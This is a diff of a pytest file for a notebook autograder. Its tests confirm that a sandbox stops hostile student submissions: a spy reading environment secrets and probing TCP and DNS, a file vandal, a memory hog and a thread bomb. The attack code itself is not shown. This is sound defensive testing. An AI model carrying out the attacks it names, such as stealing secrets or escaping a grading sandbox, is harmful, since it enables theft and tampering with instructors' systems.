-def test_every_case_gets_its_score_and_report_line(graded, student):
-    _, rows = graded
-    status, score, per_ex, phrases = CASES[student]
-    row = rows[student]
+@pytest.mark.parametrize("run, student", [("first", s) for s in CASES] +
+                         [("rows", s) for s in LATER])
+def test_every_case_gets_its_status_points_and_report_line(graded, run, student):
+    status, score, per_ex, phrases = (CASES if run == "first" else LATER)[student]
+    row = graded[run][student]
     text = row["details"] + " | " + row["notes"]
+    auto = next(k for k in row if k.startswith("autograded_of_"))
     assert row["status"] == status, text
-    assert _num(row["autograded_of_5"]) == score, text
+    ex8 = _num(row.get("ex8")) or 0  # Exercise 8, where the notebook has it
+    if "ex8" in row and score == 5:
+        assert ex8 == 2, text  # honest work gets Exercise 8's points too
+    assert _num(row[auto]) == (None if score is None else score + ex8), text
     for ex, points in per_ex.items():
         assert _num(row[ex]) == points, (ex, text)
     for phrase in phrases:
         assert phrase in text, (phrase, text)
-    if status == "graded" and not phrases:
-        assert row["details"] == "", text
+    if status == "graded":
+        assert row["details"] == "", text  # no accusation
 
 
-def test_release_equals_the_committed_lesson(graded):
-    course, _ = graded
-    sys.path.insert(0, str(ROOT / "autograder"))
-    from cnnlab_grade import compare_release
-    assert compare_release(course / "release" / A / f"{A}.ipynb", _lesson["path"]) == []
+def test_hog_mem_is_stopped_and_hurts_nobody(graded):
+    row = graded["first"]["hog_mem"]
+    text = row["details"] + row["notes"]
+    assert (row["status"] == "ungradable" and "kernel died" in text) or (
+        row["status"] == "graded" and "ex2_answer raised" in text), text
 
 
-def test_gradebook_agrees_with_the_report(graded):
-    """nbgrader's own records: no test cell left "needs manual grade", overrides in place."""
+def test_no_secret_reaches_a_kernel_and_the_network_is_cut(graded):
+    out = (graded["course"] / "autograded" / "intruder" / A / f"{A}.ipynb").read_text()
+    assert "env:" in out and "tcp ->" in out and "dns ->" in out  # the spy ran
+    assert TOKEN not in out and KEY not in out
+    assert "gradebook.db', b'" not in out and "BEGIN SOLUTION" not in out
+    assert graded["listener"].received == []
+
+
+def test_nothing_of_the_instructor_changed(graded):
+    assert graded["after"] == graded["before"]
+    assert sorted(p.name for p in Path(os.__file__).parent.iterdir()) == graded["site"]
+    leftovers = [p for p in [Path("/tmp") / MARK, graded["home"] / MARK] if p.exists()]
+    leftovers += [p for p in graded["course"].rglob("*") if p.is_file() and MARK in
+                  p.read_text(errors="replace") and "autograded" not in p.parts
+                  and "submitted" not in p.parts and "originals" not in p.parts
+                  and "work" not in p.parts]
+    assert leftovers == []
+    outputs = [o for c in nbformat.read(graded["course"] / "autograded" / "intruder" / A /
+                                        f"{A}.ipynb", as_version=4).cells
+               for o in c.get("outputs", []) if o.get("output_type") == "stream"]
+    lines = "".join(o["text"] for o in outputs).splitlines()
+    tried = [ln for ln in lines if " -> " in ln and "Error" in ln]
+    wrote = [ln.split(" ", 1)[1] for ln in lines if ln.startswith("WROTE ")]
+    assert len(tried) >= 6  # the vandal ran and was refused (other students: not even seen)
+    own = str(graded["course"] / "grading" / "runtime" / "intruder") + "/"  # its exports
+    assert all(p.startswith(("/home/student/", f"/tmp/{MARK}", own)) for p in wrote), wrote
+
+
+def test_no_process_outlives_its_kernel(graded):
+    import psutil
+    alive = [p.info for p in psutil.process_iter(["pid", "cmdline"])
+             if MARK in " ".join(p.info["cmdline"] or [])]
+    assert alive == []
+
+
+def test_limits_stopped_the_thread_bomb(graded):
+    out = (graded["course"] / "autograded" / "intruder" / A / f"{A}.ipynb").read_text()
+    started = int(out.split("threads started: ")[1].split("\\n")[0])
+    assert started < 300
+
+
+def test_refuted_points_come_back_with_an_honest_resubmission(graded):
     from nbgrader.api import Gradebook
-
-    course, _ = graded
-    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "cnnlab") as gb:
-        deleted = {g.name: g for g in gb.find_submission_notebook(A, A, "deleted").grades}
-        assert deleted["ex5_test"].auto_score == 0 and not deleted["ex5_test"].needs_manual_grade
-        redefine = {g.name: g for g in gb.find_submission_notebook(A, A, "redefine").grades}
-        assert redefine["ex5_test"].auto_score == 1 and redefine["ex5_test"].manual_score == 0
-        stripped = gb.find_submission_notebook(A, A, "stripped")
-        assert sum(g.score for g in stripped.grades if g.name.endswith("_test")) == 5
-        assert {s.id for s in gb.students} >= set(SUBMISSIONS) and \
-            not {"selfcheck-solution", "selfcheck-blank"} & {s.id for s in gb.students}
+    with Gradebook(f"sqlite:///{graded['course'] / 'gradebook.db'}", "cnnlab") as gb:
+        grade = {g.name: g for g in gb.find_submission_notebook(A, A, "fixme").grades}
+        assert grade["ex5_test"].manual_score is None and grade["ex5_test"].auto_score == 1
 
 
-def test_feedback_hides_the_hidden_tests(graded, snapshot):
-    course, _ = graded
-    env = snapshot[2]
-    run = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", A,
-                          "--student", "wrong_a", "--force"], cwd=course, env=env,
-                         capture_output=True, text=True, timeout=300)
-    assert run.returncode == 0, run.stderr[-3000:]
-    html = (course / "feedback" / "wrong_a" / A / f"{A}.html").read_text()
-    assert "check_exercise_4" in html
-    assert "HIDDEN TESTS" not in html and "features holds" not in html
+def test_no_sandbox_is_said_on_the_first_line(graded):
+    assert "no-sandbox" not in graded["first_report"].splitlines()[0]
+    assert graded["report"].splitlines()[0].startswith("WARNING: graded with --no-sandbox")
 
 
-def test_one_submission_autogrades_in_under_a_minute_here(graded):
-    """Benchmark record, not a target check: the target (30 s on an idle 2-core CPU) is
-    measured by benchmarks/bench_autograde.py; here other jobs share the CPU."""
-    course, _ = graded
-    seconds = json.loads((course / "cnnlab" / "selfcheck.json").read_text())["solution"]["seconds"]
-    print(f"autograding the solution took {seconds:.1f} s")
-    assert seconds < 180
+def test_plain_nbgrader_grades_like_cnnlab_grade(graded):
+    plain, stripped = graded["exported"]["plain"], graded["rows"]["stripped"]
+    assert {k: v for k, v in plain.items() if k != "student"} == \
+        {k: v for k, v in stripped.items() if k != "student"}
+
+
+def test_feedback_shows_no_hidden_test(graded):
+    course = graded["course"]
+    html = {}
+    for sid in ("intruder",):
+        run = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", A,
+                              "--student", sid, "--force"], cwd=course, env=graded["env"],
+                             capture_output=True, text=True, timeout=300)
+        assert run.returncode == 0, run.stderr[-3000:]
+        html[sid] = (course / "feedback" / sid / A / f"{A}.html").read_text()
+        assert "check_exercise_4" in html[sid]
+        assert "HIDDEN TESTS" not in html[sid] and "features holds" not in html[sid]
+    assert "output removed: it quoted a hidden test" in html["intruder"]  # its print(In)
